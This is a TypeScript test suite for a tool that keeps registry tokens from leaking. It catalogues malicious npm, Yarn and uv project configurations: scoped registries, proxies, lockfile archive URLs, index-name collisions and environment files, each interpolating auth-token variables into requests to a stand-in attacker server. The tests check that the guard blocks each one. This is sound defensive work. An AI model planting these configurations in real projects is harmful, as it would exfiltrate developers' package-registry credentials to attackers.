import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { Secret } from '../../src/core/secret.ts'
import { nerfDart, VENDOR_URLS } from '../../src/core/services.ts'
import type { Surroundings } from '../../src/exec/surroundings.ts'
import { TOOLS } from '../../src/tools/index.ts'
import type { ManagerName } from '../../src/tools/tool.ts'
import { type Client, installedClient, PYTHON, requireClient, runClient } from '../helpers/clients.ts'
import { GUARD, sandbox, tempHome } from '../helpers/guard.ts'
import { openStranger } from '../helpers/stranger.ts'
import { npmSettings } from './npmrc-forms.ts'

interface At {
  /** Guard's and the stranger's. */
  guard: string
  host: string
  evil: string
  evilHost: string
}

interface Project {
  name: string
  files(at: At): Record<string, string>
  words?: readonly string[]
  /** What the shell has set besides. */
  variables?: Record<string, string>
}

/** A project of the stranger's. */
interface Attack extends Project {
  /** The tools whose variables are set, as guard would if nothing was withheld. */
  tools: readonly ManagerName[]
  /** False where the client itself keeps the token back, or does not get as far. */
  works?: boolean
  /** Names of the project's indexes that are at Guard. */
  indexes?: readonly string[]
}

const manifest = (dependencies: Record<string, string> = { '@evil/x': '1.0.0' }, more = {}) =>
  JSON.stringify({ name: 'p', version: '1.0.0', dependencies, ...more })

const npm: Client = installedClient('npm-11', 'node_modules/npm/bin/npm-cli.js')
const yarn: Client = installedClient('yarn-4', 'node_modules/@yarnpkg/cli-dist/bin/yarn.js')
const uv: Client = installedClient('uv', 'bin/uv')

const npmrc =
  (text: (at: At) => string, more: Record<string, string> = {}) =>
  (at: At) => ({
    'work/p/package.json': manifest(),
    'work/p/.npmrc': text(at),
    ...more,
  })
const DIRECT = { NO_PROXY: '', HTTPS_PROXY: '' }
const YARN = { 'work/p/yarn.lock': '' }
const own = (at: At) => `npm_config_${nerfDart(`${at.guard}/npm/`)}:_authToken`

const npmAttacks: Attack[] = [
  {
    name: 'a scope at a path with the variable of another tool',
    files: npmrc(at => `@evil:registry=${at.evil}/x/\${YARN_NPM_AUTH_TOKEN}/\n`, YARN),
    tools: ['npm', 'yarn'],
  },
  {
    name: 'a scope at a path with npm’s own variable',
    files: npmrc(at => `@evil:registry=${at.evil}/x/\${${own(at)}}/\n`),
    tools: ['npm'],
  },
  {
    name: 'a scope at a user name with a variable',
    files: npmrc(at => `@evil:registry=http://\${YARN_NPM_AUTH_TOKEN}@${at.evilHost}/\n`, YARN),
    tools: ['npm', 'yarn'],
  },
  {
    name: 'the credential of another port',
    files: npmrc(at => `@evil:registry=${at.evil}/\n//${at.evilHost}/:_authToken=\${${own(at)}}\n`),
    tools: ['npm'],
  },
  {
    name: 'the credential with a question mark',
    files: npmrc(at => `@evil:registry=${at.evil}/\n//${at.evilHost}/:_authToken=\${${own(at)}?}\n`),
    tools: ['npm'],
  },
  {
    name: 'the credential of Yarn 1 and pnpm',
    files: npmrc(at => `@evil:registry=${at.evil}/\n//${at.evilHost}/:_auth=\${npm_config__auth}\n`, {
      'work/p/pnpm-lock.yaml': '',
    }),
    tools: ['npm', 'pnpm'],
  },
  {
    name: 'the name of the program',
    files: npmrc(at => `@evil:registry=${at.evil}/\nuser-agent=\${YARN_NPM_AUTH_TOKEN}\n`, YARN),
    tools: ['npm', 'yarn'],
  },
  { name: 'the registry moved', files: npmrc(at => `registry=${at.evil}/\n`), tools: ['npm'], works: false },
  {
    name: 'the registry moved, with Guard’s host as user name',
    files: npmrc(at => `registry=http://${at.host}@${at.evilHost}/npm/\n`),
    tools: ['npm'],
    works: false,
  },
  {
    name: 'a scope with Guard’s host as user name',
    files: npmrc(at => `@evil:registry=http://${at.host}@${at.evilHost}/npm/\n`),
    tools: ['npm'],
    works: false,
  },
  {
    name: 'a scope with Guard’s host as path',
    files: npmrc(at => `@evil:registry=${at.evil}//${at.host}/npm/\n`),
    tools: ['npm'],
    works: false,
  },
  { name: 'a proxy', files: npmrc(at => `proxy=${at.evil}/\n\n`), tools: ['npm'], variables: DIRECT },
  { name: 'a proxy for https', files: npmrc(at => `https-proxy=${at.evil}/\n\n`), tools: ['npm'], variables: DIRECT },
  {
    name: 'a proxy, and no exceptions',
    files: npmrc(at => `proxy=${at.evil}/\n\n`),
    tools: ['npm'],
    variables: DIRECT,
  },
  {
    name: 'a lockfile',
    files: at => ({
      'work/p/package.json': manifest(),
      'work/p/package-lock.json': JSON.stringify({
        name: 'p',
        version: '1.0.0',
        lockfileVersion: 3,
        requires: true,
        packages: {
          '': { name: 'p', version: '1.0.0', dependencies: { '@evil/x': '1.0.0' } },
          'node_modules/@evil/x': { version: '1.0.0', resolved: `${at.evil}/npm/x.tgz` },
        },
      }),
    }),
    tools: ['npm'],
    works: false,
  },
  {
    name: 'another folder',
    files: at => ({
      'work/p/README': '',
      'work/clone/package.json': manifest(),
      'work/clone/.npmrc': `@evil:registry=${at.evil}/x/\${${own(at)}}/\n`,
    }),
    words: ['--prefix', '../clone', 'install'],
    tools: ['npm'],
  },
  {
    name: 'another folder, joined',
    files: at => ({
      'work/p/README': '',
      'work/clone/package.json': manifest(),
      'work/clone/.npmrc': `@evil:registry=${at.evil}/x/\${${own(at)}}/\n`,
    }),
    words: ['--prefix=../clone', 'install'],
    tools: ['npm'],
  },
  {
    name: 'another user config',
    files: at => ({
      'work/p/package.json': manifest(),
      'work/clone/rc': `@evil:registry=${at.evil}/x/\${${own(at)}}/\n`,
    }),
    words: ['--userconfig', '../clone/rc', 'install'],
    tools: ['npm'],
  },
  ...['userconfig', 'globalconfig'].map<Attack>(setting => ({
    name: `another config that the project's names as its ${setting}`,
    files: at => ({
      ...npmrc(() => `@evil:registry=${at.evil}/\n${setting}=./rc\n`)(at),
      'work/p/rc': `//${at.evilHost}/:_authToken=\${${own(at)}}\n`,
    }),
    tools: ['npm'],
  })),
]

const yarnrc =
  (text: (at: At) => string, more: Record<string, string> = {}, dependencies?: Record<string, string>) =>
  (at: At) => ({
    'work/p/package.json': manifest(dependencies),
    'work/p/yarn.lock': '',
    'work/p/.yarnrc.yml': text(at),
    ...more,
  })
const scope = (url: string) => `npmScopes:\n  evil:\n    npmRegistryServer: "${url}"\n`
const lock = (archive: string) =>
  `__metadata:\n  version: 10\n  cacheKey: 10c0\n\n"@evil/x@npm:1.0.0":\n  version: 1.0.0\n  resolution: "@evil/x@npm:1.0.0::__archiveUrl=${archive}"\n  languageName: node\n  linkType: hard\n\n"p@workspace:.":\n  version: 0.0.0-use.local\n  resolution: "p@workspace:."\n  dependencies:\n    "@evil/x": "npm:1.0.0"\n  languageName: unknown\n  linkType: soft\n`
const workspace = (...parts: string[]) =>
  `__metadata:\n  version: 10\n  cacheKey: 10c0\n${parts.map(part => `\n"${part}":\n  version: 0.0.0-use.local\n  resolution: "${part}"\n  languageName: unknown\n  linkType: soft\n`).join('')}`
const archived = (name: string, archive: (at: At) => string, works = true): Attack => ({
  name: `a lockfile with an archive at ${name}`,
  files: at => ({ 'work/p/package.json': manifest(), 'work/p/yarn.lock': lock(archive(at)) }),
  tools: ['yarn'],
  works,
})

const yarnAttacks: Attack[] = [
  { name: 'a scope', files: yarnrc(at => scope(at.evil)), tools: ['yarn'] },
  {
    name: 'a scope with a backslash',
    files: yarnrc(at => scope(`http://${at.evilHost}\\\\@${at.host}`)),
    tools: ['yarn'],
  },
  {
    name: 'a scope with a tab',
    files: yarnrc(at => scope(`http://${at.evilHost.slice(0, 4)}\\t${at.evilHost.slice(4)}`)),
    tools: ['yarn'],
  },
  {
    name: 'a scope with Guard’s host as user name',
    files: yarnrc(at => scope(`http://${at.host}@${at.evilHost}`)),
    tools: ['yarn'],
  },
  {
    name: 'a scope with Guard’s host as fragment',
    files: yarnrc(at => scope(`${at.evil}#@${at.host}/npm`)),
    tools: ['yarn'],
  },
  { name: 'the server moved', files: yarnrc(at => `npmRegistryServer: "${at.evil}"\n`), tools: ['yarn'], works: false },
  {
    name: 'the credential of another host',
    files: yarnrc(
      at =>
        `${scope(at.evil)}npmRegistries:\n  "//${at.evilHost}":\n    npmAuthToken: "\${YARN_NPM_AUTH_TOKEN}"\n    npmAlwaysAuth: true\n`,
    ),
    tools: ['yarn'],
  },
  archived('another host', at => encodeURIComponent(`${at.evil}/x.tgz`)),
  archived('another host, half encoded', at => `http:%2f%2f${at.evilHost}%2Fx.tgz`),
  archived('another host, in capitals', at => encodeURIComponent(`HTTP://${at.evilHost}/x.tgz`)),
  archived('another host behind Guard’s as a user name', at =>
    encodeURIComponent(`http://${at.host}@${at.evilHost}/x.tgz`),
  ),
  archived('another host, with a letter encoded', at =>
    encodeURIComponent(`${at.evil}/x.tgz`).replace('http', '%68ttp'),
  ),
  archived('another host, in a backslash', at => encodeURIComponent(`http:\\\\${at.evilHost}/x.tgz`)),
  {
    name: 'the registry of audits',
    files: yarnrc(at => `npmAuditRegistry: "${at.evil}"\n`, { 'work/p/yarn.lock': workspace('p@workspace:.') }, {}),
    words: ['npm', 'audit'],
    tools: ['yarn'],
  },
  {
    name: 'the registry to publish to',
    files: yarnrc(at => `npmPublishRegistry: "${at.evil}"\n`, { 'work/p/yarn.lock': workspace('p@workspace:.') }, {}),
    words: ['npm', 'publish'],
    tools: ['yarn'],
  },
  {
    name: 'publishConfig',
    files: at => ({
      'work/p/yarn.lock': workspace('p@workspace:.'),
      'work/p/package.json': manifest({}, { publishConfig: { registry: at.evil } }),
    }),
    words: ['npm', 'publish'],
    tools: ['yarn'],
  },
  {
    name: 'publishConfig of a part',
    files: at => ({
      'work/p/yarn.lock': workspace('b@workspace:a/b', 'p@workspace:.'),
      'work/p/package.json': JSON.stringify({ name: 'p', private: true, workspaces: ['a/*'] }),
      'work/p/a/b/package.json': JSON.stringify({ name: 'b', version: '1.0.0', publishConfig: { registry: at.evil } }),
    }),
    words: ['workspaces', 'foreach', '-A', '--no-private', 'npm', 'publish'],
    tools: ['yarn'],
  },
  {
    name: 'an environment file',
    files: yarnrc(at => `npmScopes:\n  evil:\n    npmRegistryServer: "${at.evil}/\${X}/"\n    npmAuthToken: x\n`, {
      'work/p/.env.yarn': 'X=${YARN_NPM_AUTH_TOKEN}\n',
    }),
    tools: ['yarn'],
  },
  {
    name: 'an environment file of another name',
    files: yarnrc(
      at =>
        `injectEnvironmentFiles: [evil.txt]\nnpmScopes:\n  evil:\n    npmRegistryServer: "${at.evil}/\${X}/"\n    npmAuthToken: x\n`,
      { 'work/p/evil.txt': 'X=${YARN_NPM_AUTH_TOKEN}\n' },
    ),
    tools: ['yarn'],
  },
  {
    name: 'a proxy',
    files: yarnrc(at => `httpProxy: "${at.evil}"\n`, {}, { 'guard-sandbox-hello': '1.0.0' }),
    tools: ['yarn'],
  },
  {
    name: 'a proxy for one host',
    files: yarnrc(
      at => `networkSettings:\n  "127.0.0.1":\n    httpProxy: "${at.evil}"\n`,
      {},
      { 'guard-sandbox-hello': '1.0.0' },
    ),
    tools: ['yarn'],
  },
  {
    name: 'a proxy for every host',
    files: yarnrc(
      at => `networkSettings:\n  "*":\n    httpProxy: "${at.evil}"\n`,
      {},
      { 'guard-sandbox-hello': '1.0.0' },
    ),
    tools: ['yarn'],
  },
  {
    name: 'another folder',
    files: at => ({
      'work/p/README': '',
      'work/clone/package.json': manifest(),
      'work/clone/yarn.lock': '',
      'work/clone/.yarnrc.yml': scope(at.evil),
    }),
    words: ['--cwd', '../clone', 'install'],
    tools: ['yarn'],
  },
  ...['""', '"${NOTHING:-}"', '"${NOTHING-}"'].map<Attack>(value => ({
    name: `a scope whose own token is ${value}`,
    files: yarnrc(at => `${scope(at.evil)}    npmAuthToken: ${value}\n    npmAlwaysAuth: true\n`),
    tools: ['yarn'],
  })),
]

const project = (more: string, dependency = 'evil-x') =>
  `[project]\nname = "p"\nversion = "1.0.0"\nrequires-python = ">=3.8"\ndependencies = ["${dependency}==1.0.0"]\n${more}`
const index = (name: string, url: string) => `[[tool.uv.index]]\nname = "${name}"\nurl = "${url}"\n`
const collide = (ours: string, theirs: string): Attack => ({
  name: `indexes named ${ours} and ${theirs}`,
  files: at => ({
    'work/p/pyproject.toml': project(index(theirs, `${at.evil}/simple/`) + index(ours, `${at.guard}/pypi/simple/`)),
  }),
  words: ['lock'],
  tools: ['uv'],
  indexes: [ours],
})

const need = (at: At) => `--extra-index-url ${at.evil}/\${UV_INDEX_A_B_PASSWORD}/simple/\nevil-x\n`

const uvAttacks: Attack[] = [
  collide('a-b', 'a_b'),
  collide('a-b', 'A-B'),
  collide('a.b', 'a-b'),
  {
    name: 'an index in a part',
    files: at => ({
      'work/p/pyproject.toml': project(
        `${index('a-b', `${at.guard}/pypi/simple/`)}[tool.uv.workspace]\nmembers = ["m"]\n`,
      ),
      'work/p/m/pyproject.toml': `[project]\nname = "m"\nversion = "1.0.0"\nrequires-python = ">=3.8"\ndependencies = ["evil-x"]\n[tool.uv.sources]\nevil-x = { index = "a_b" }\n${index('a_b', `${at.evil}/simple/`)}`,
    }),
    words: ['lock'],
    tools: ['uv'],
    indexes: ['a-b'],
  },
  {
    name: 'the default index moved',
    files: at => ({ 'work/p/pyproject.toml': project(`${index('x', `${at.evil}/simple/`)}default = true\n`) }),
    words: ['lock'],
    tools: ['uv'],
    works: false,
  },
  {
    name: 'the default index moved, with Guard’s host as a user name',
    files: at => ({
      'work/p/pyproject.toml': project(`${index('x', `http://${at.host}@${at.evilHost}/simple/`)}default = true\n`),
    }),
    words: ['lock'],
    tools: ['uv'],
    works: false,
  },
  {
    name: 'an index with Guard’s path',
    files: at => ({ 'work/p/pyproject.toml': project(index('x', `${at.evil}/${at.host}/pypi/simple/`)) }),
    words: ['lock'],
    tools: ['uv'],
    works: false,
  },
  {
    name: 'index-url',
    files: at => ({
      'work/p/uv.toml': `index-url = "${at.evil}/simple/"\nextra-index-url = ["${at.evil}/pypi/simple/"]\n`,
      'work/p/pyproject.toml': project(''),
    }),
    words: ['lock'],
    tools: ['uv'],
    works: false,
  },
  {
    name: 'a list of requirements',
    files: at => ({
      'work/p/pyproject.toml': project(index('a-b', `${at.guard}/pypi/simple/`)),
      'work/p/requirements.txt': need(at),
    }),
    words: ['pip', 'install', '--target', 'packages', '-r', 'requirements.txt'],
    tools: ['uv'],
    indexes: ['a-b'],
  },
  {
    name: 'a list of requirements of another name',
    files: at => ({
      'work/p/pyproject.toml': project(index('a-b', `${at.guard}/pypi/simple/`)),
      'work/p/need': need(at),
    }),
    words: ['pip', 'install', '--target', 'packages', '-r', 'need'],
    tools: ['uv'],
    indexes: ['a-b'],
  },
  {
    name: 'a list in a list of requirements',
    files: at => ({
      'work/p/pyproject.toml': project(index('a-b', `${at.guard}/pypi/simple/`)),
      'work/p/requirements.txt': '-r sub/need\n',
      'work/p/sub/need': need(at),
    }),
    words: ['pip', 'install', '--target', 'packages', '-r', 'requirements.txt'],
    tools: ['uv'],
    indexes: ['a-b'],
  },
  {
    name: 'another folder',
    files: at => ({
      'work/p/README': '',
      'work/clone/pyproject.toml': project(
        index('a_b', `${at.evil}/simple/`) + index('a-b', `${at.guard}/pypi/simple/`),
      ),
    }),
    words: ['--directory', '../clone', 'lock'],
    tools: ['uv'],
    indexes: ['a-b'],
  },
  {
    name: 'another settings file',
    files: at => ({
      'work/p/pyproject.toml': project(index('a-b', `${at.guard}/pypi/simple/`)),
      'work/clone/s.toml': `[[index]]\nname = "a_b"\nurl = "${at.evil}/simple/"\n`,
    }),
    words: ['--config-file', '../clone/s.toml', 'lock'],
    tools: ['uv'],
    indexes: ['a-b'],
  },
  {
    name: 'a script without an ending',
    files: at => ({
      'work/p/pyproject.toml': project(index('a-b', `${at.guard}/pypi/simple/`)),
      'work/p/run': `# /// script\n# dependencies = ["evil-x"]\n# [[tool.uv.index]]\n# name = "a_b"\n# url = "${at.evil}/simple/"\n# ///\nimport x\n`,
    }),
    words: ['run', '--script', 'run'],
    tools: ['uv'],
    indexes: ['a-b'],
  },
]

const around: Surroundings = {
  ...{ yarnLeak: undefined, yarn1Leak: undefined, pipenvLeak: undefined },
  ...{
    referenced: [],
    uvIndexes: [],
    poetrySources: [],
    collisions: [],
    handovers: [],
    proxied: {},
    paths: [],
    partial: false,
  },
}

/** Every variable that guard knows for these tools, whatever the project says. */
function everything({ tools, indexes = [] }: Attack, urls: typeof VENDOR_URLS, token: string): Record<string, string> {
  const input = { token: new Secret(token), urls, env: {}, program: '', around: { ...around, uvIndexes: [...indexes] } }
  return Object.assign({}, ...tools.map(tool => TOOLS[tool].exec.variables(input).set))
}

const environment = (scratch: string) => ({
  ...npmSettings(scratch),
  ...{ npm_config_fetch_retries: '0', YARN_HTTP_RETRY: '0', YARN_GLOBAL_FOLDER: join(scratch, 'yarn') },
  ...{ YARN_ENABLE_TELEMETRY: '0', YARN_ENABLE_IMMUTABLE_INSTALLS: '0', YARN_NODE_LINKER: 'node-modules' },
  ...{ YARN_UNSAFE_HTTP_WHITELIST: '127.0.0.1', YARN_NPM_PREAPPROVED_PACKAGES: '**' },
  ...{ UV_PYTHON: PYTHON, UV_PYTHON_DOWNLOADS: 'never', UV_KEYRING_PROVIDER: 'disabled', UV_HTTP_RETRIES: '0' },
})

async function scene({ files, words = ['install'], variables = {} }: Project, client: Client) {
  const services = await sandbox({ requireToken: true })
  const stranger = await openStranger()
  const token = await services.issue()
  const at = { guard: services.url, host: services.host, evil: stranger.url, evilHost: stranger.host }
  const { home } = tempHome(files(at))
  const urls = Object.fromEntries(Object.entries(services.environment).filter(([name]) => name.endsWith('_URL')))
  const run = (prefix: readonly string[], more: Record<string, string> = {}) =>
    runClient([...prefix, ...client.command, ...words], { home, environment, variables: { ...variables, ...more } })
  const inExec = () => run([process.execPath, GUARD, 'exec', '--'], { ...urls, GUARD_TOKEN: token })
  return { stranger, token, urls, run, inExec, home }
}

describe.for<[string, Client, Attack[]]>([
  ['npm', npm, npmAttacks],
  ['Yarn 4', yarn, yarnAttacks],
  ['uv', uv, uvAttacks],
])('a stranger to whom a project sends %s', ([, client, attacks]) => {
  test.for(attacks)('hears no token by $name', { timeout: 120_000 }, async (attack, context) => {
    requireClient(client, context)
    const { stranger, token, urls, run, inExec } = await scene(attack, client)

    const { output } = await inExec()

    expect(stranger.hasHeard(token), output.replaceAll(token, 'TOKEN')).toBe(false)
    // The same project with all that guard could set: by this the stranger would hear it.
    const all = { ...VENDOR_URLS, npm: urls.GUARD_NPM_URL!, pypi: urls.GUARD_PYPI_URL! }
    const given = await run(['env', ...Object.entries(everything(attack, all, token)).map(pair => pair.join('='))])
    expect(stranger.hasHeard(token), given.output.replaceAll(token, 'TOKEN')).toBe(attack.works ?? true)
  })
})

interface Honest extends Project {
  client: Client
  /** What is there once the package is installed. */
  result: string
}

const HELLO = { 'guard-sandbox-hello': '1.0.0' }
const INSTALLED = 'node_modules/guard-sandbox-hello/index.js'

test.for<Honest>([
  {
    client: npm,
    name: 'another scope is at the stranger, and npm works in another folder',
    files: at => ({
      'work/p/README': '',
      'work/app/package.json': manifest(HELLO),
      'work/app/.npmrc': `@evil:registry=${at.evil}/\n`,
    }),
    words: ['--prefix', '../app', 'install'],
    result: `work/app/${INSTALLED}`,
  },
  {
    client: npm,
    name: 'its own placeholder is for Guard',
    files: at => ({
      'work/p/package.json': manifest(HELLO),
      'work/p/.npmrc': `registry=${at.guard}/npm/\n//${at.host}/npm/:_authToken=\${NPM_TOKEN}\n`,
    }),
    result: `work/p/${INSTALLED}`,
  },
  {
    client: yarn,
    name: 'a part of it is published at the stranger',
    files: at => ({
      'work/p/yarn.lock': '',
      'work/p/package.json': JSON.stringify({ ...JSON.parse(manifest(HELLO)), private: true, workspaces: ['a/*'] }),
      'work/p/a/b/package.json': JSON.stringify({ name: 'b', publishConfig: { registry: at.evil } }),
    }),
    result: `work/p/${INSTALLED}`,
  },
  {
    client: yarn,
    name: 'an environment file has variables of its own',
    files: () => ({
      'work/p/yarn.lock': '',
      'work/p/package.json': manifest(HELLO),
      'work/p/.yarnrc.yml': 'injectEnvironmentFiles: [own.txt]\n',
      'work/p/own.txt': 'X=${HOME}\n',
    }),
    result: `work/p/${INSTALLED}`,
  },
  {
    client: uv,
    name: 'an index with a name of its own is at the stranger',
    files: at => ({
      'work/p/README': '',
      'work/app/pyproject.toml': project(
        `[[tool.uv.index]]\nname = "other"\nurl = "${at.evil}/simple/"\nexplicit = true\n${index('guard', `${at.guard}/pypi/simple/`)}`,
        'guard-sandbox-hello',
      ),
    }),
    words: ['--directory', '../app', 'lock'],
    result: 'work/app/uv.lock',
  },
])('an honest project gets its token to Guard: $name', { timeout: 120_000 }, async (honest, context) => {
  requireClient(honest.client, context)
  const { stranger, token, inExec, home } = await scene(honest, honest.client)

  const { code, output } = await inExec()

  expect(code, output.replaceAll(token, 'TOKEN')).toBe(0)
  expect(existsSync(join(home, honest.result))).toBe(true)
  expect(stranger.hasHeard(token)).toBe(false)
})
